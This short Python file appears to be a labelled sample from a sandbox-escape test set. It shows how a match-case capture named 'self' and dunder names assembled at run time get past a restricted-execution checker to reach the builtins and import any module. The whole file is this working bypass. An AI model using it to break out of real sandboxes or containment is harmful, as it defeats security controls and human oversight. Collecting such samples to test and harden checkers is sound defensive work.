# family: import
# Escape: a match capture named self binds a methodcaller; self.__class__ is trusted by the name, so Call is
# the methodcaller class. Call("__getattribute__", "__builtins__")(tool) is the builtins dict and its
# __import__ (key built at run time) imports any module.
import operator


def tool(module_name: str):
    match operator.methodcaller("upper"):
        case self:
            Call = self.__class__
    edge = "_" * 2
    builtins_ns = Call(edge + "getattribute" + edge, edge + "builtins" + edge)(tool)
    return builtins_ns[edge + "import" + edge](module_name)
